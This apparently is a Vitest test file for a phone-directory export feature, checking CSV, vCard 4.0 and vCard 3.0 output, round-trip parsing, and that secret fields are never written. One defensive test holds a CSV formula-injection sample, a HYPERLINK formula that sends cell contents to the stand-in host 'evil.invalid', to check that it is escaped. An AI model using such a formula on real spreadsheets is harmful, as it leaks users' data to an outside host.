import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  joinList,
  parseCsv,
  parseCsvRecords,
  splitList,
  toCsv,
} from '../../../electron/core/export/csv.js';
import { fold, parseVcard, toVcard } from '../../../electron/core/export/vcard.js';
import { toRow } from '../../../electron/core/export/rows.js';
import { exportDirectory } from '../../../electron/core/export/index.js';
import { structuredName, toVcard3 } from '../../../electron/core/export/vcard3.js';
import type { Extension } from '../../../electron/core/shared/domain.js';

function ext(over: Partial<Extension> = {}): Extension {
  return {
    id: '7',
    number: '107',
    name: 'José "Pepe" Núñez, Jr.',
    email: 'jose@example.com',
    language: 'es',
    internalCid: { name: 'José', number: '107' },
    externalCid: null,
    emergencyCid: { name: '', number: '911' },
    mailbox: '107@default',
    tenantId: '1',
    devices: [
      {
        id: '1',
        name: 'dev;107',
        user: 'u\\1',
        description: 'Desk\nphone, 2nd floor',
        technology: 'pjsip',
        ring: true,
        assignedExtension: null,
      },
      {
        id: '2',
        name: '王伟-mobile',
        user: '107b',
        description: 'محمد',
        technology: 'sip',
        ring: false,
        assignedExtension: '107',
      },
    ],
    queues: [
      { id: '1', name: 'Sales; EU', penalty: 0 },
      { id: '2', name: 'Support', penalty: 3 },
    ],
    cdr: null,
    ...over,
  };
}

describe('CSV export (RFC 4180)', () => {
  it('quotes fields with commas, quotes and line breaks, uses CRLF and a UTF-8 BOM', () => {
    const csv = toCsv([ext()]);
    expect(csv.startsWith('\uFEFF' + CSV_COLUMNS.join(',') + '\r\n')).toBe(true);
    expect(csv).toContain('"José ""Pepe"" Núñez, Jr."');
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parseCsvRecords(csv);
    expect(records).toHaveLength(2);
    expect(records[1]).toHaveLength(CSV_COLUMNS.length);
  });

  it('re-parses to the same rows, lists and escapes included', () => {
    const list = [ext(), ext({ id: '8', number: '108', name: '', email: null, queues: [], devices: [] })];
    expect(parseCsv(toCsv(list))).toEqual(list.map(toRow));
  });

  it('joins and splits list cells losslessly', () => {
    const values = ['a;b', 'c\\d', '', ' e ', '王'];
    expect(splitList(joinList(values))).toEqual(values);
    expect(splitList('')).toEqual([]);
  });

  it('neutralises cells a spreadsheet would run as a formula (OWASP), and re-parses them losslessly', () => {
    const attack = '=HYPERLINK("http://evil.invalid/?leak="&B3,"Open")';
    const risky = [attack, '+1+2', '-2+3', '@SUM(A1)', '\tx', '\r=1', "'=quoted", "''+twice", "'plain"];
    const list = risky.map((name, i) => ext({ id: String(i), number: String(100 + i), name }));
    list.push(ext({ id: 'cid', number: '200', externalCid: { name: '', number: '+34911' } }));
    list.push(ext({ id: 'q', number: '201', queues: [{ id: '9', name: '=cmd', penalty: 0 }] }));
    const csv = toCsv(list);
    const records = parseCsvRecords(csv).slice(1);
    // Every cell as a spreadsheet reads it: none may start with a formula trigger.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(records[0]?.[1]).toBe(`'${attack}`);
    expect(csv).toContain(`"'${attack.replace(/"/g, '""')}"`);
    expect(records[6]?.[1]).toBe("''=quoted");
    expect(records[8]?.[1]).toBe("'plain");
    expect(records.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    expect(parseCsv(csv)).toEqual(list.map(toRow));
  });

  it('rejects a file that is not a directory export', () => {
    expect(() => parseCsv('a,b\r\n1,2\r\n')).toThrow(/not a directory CSV/);
  });
});

describe('vCard 4.0 export (RFC 6350)', () => {
  it('writes valid cards with escaped values and folded lines', () => {
    const card = toVcard([ext({ name: 'Ñ'.repeat(60) + ', 王伟' })]);
    expect(card.startsWith('BEGIN:VCARD\r\nVERSION:4.0\r\n')).toBe(true);
    expect(card).toContain('TEL;VALUE=uri;TYPE="work,voice":tel:107');
    for (const line of card.split('\r\n'))
      expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    expect(card).toContain('\\,');
  });

  it('folds without splitting a multi-byte character', () => {
    const folded = fold('FN:' + '王'.repeat(40));
    expect(folded.replace(/\r\n /g, '')).toBe('FN:' + '王'.repeat(40));
    expect(folded.split('\r\n').length).toBeGreaterThan(1);
  });

  it('re-parses to the same rows', () => {
    const list = [
      ext(),
      ext({ id: '9', number: '109', name: '', email: null, language: null, devices: [], queues: [] }),
    ];
    expect(parseVcard(toVcard(list))).toEqual(list.map(toRow));
  });

  it('never writes secret fields, even if a raw object carried them', () => {
    const raw = { ...ext(), secret: 'S3CRET-X', features_password: '*99999' } as Extension;
    for (const format of ['csv', 'vcard', 'vcard3', 'json'] as const) {
      const { content } = exportDirectory([raw], format, 'x');
      expect(content).not.toContain('S3CRET-X');
      expect(content).not.toContain('*99999');
    }
  });
});

describe('vCard 3.0 export (RFC 2426), for Outlook and desk phones', () => {
  it('writes VERSION:3.0 with N and FN, a plain TEL and an INTERNET e-mail', () => {
    const card = toVcard3([ext({ name: 'Ana María López' })]);
    const lines = card.split('\r\n');
    expect(lines.slice(0, 2)).toEqual(['BEGIN:VCARD', 'VERSION:3.0']);
    expect(lines).toContain('N:López;Ana María;;;');
    expect(lines).toContain('FN:Ana María López');
    expect(lines).toContain('TEL;TYPE=WORK,VOICE:107');
    expect(lines).toContain('EMAIL;TYPE=INTERNET,WORK:jose@example.com');
    expect(card).not.toContain('LANG:');
    expect(card).not.toContain('VALUE=uri');
    for (const line of lines) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
  });
  it('escapes N and keeps a one-word or nameless entry whole', () => {
    expect(toVcard3([ext()])).toContain('N:Jr.;José "Pepe" Núñez\\,;;;');
    expect(structuredName('王伟')).toEqual({ family: '王伟', given: '' });
    expect(toVcard3([ext({ name: '' })])).toContain('\r\nN:107;;;;\r\nFN:107\r\n');
  });
  it('is offered beside 4.0 by the export entry point', () => {
    const file = exportDirectory([ext(), ext({ id: '8', number: '108' })], 'vcard3', 'dir');
    expect(file).toMatchObject({ filename: 'dir.vcf', mime: 'text/vcard;charset=utf-8', count: 2 });
    expect(file.content.match(/BEGIN:VCARD/g)).toHaveLength(2);
  });
});
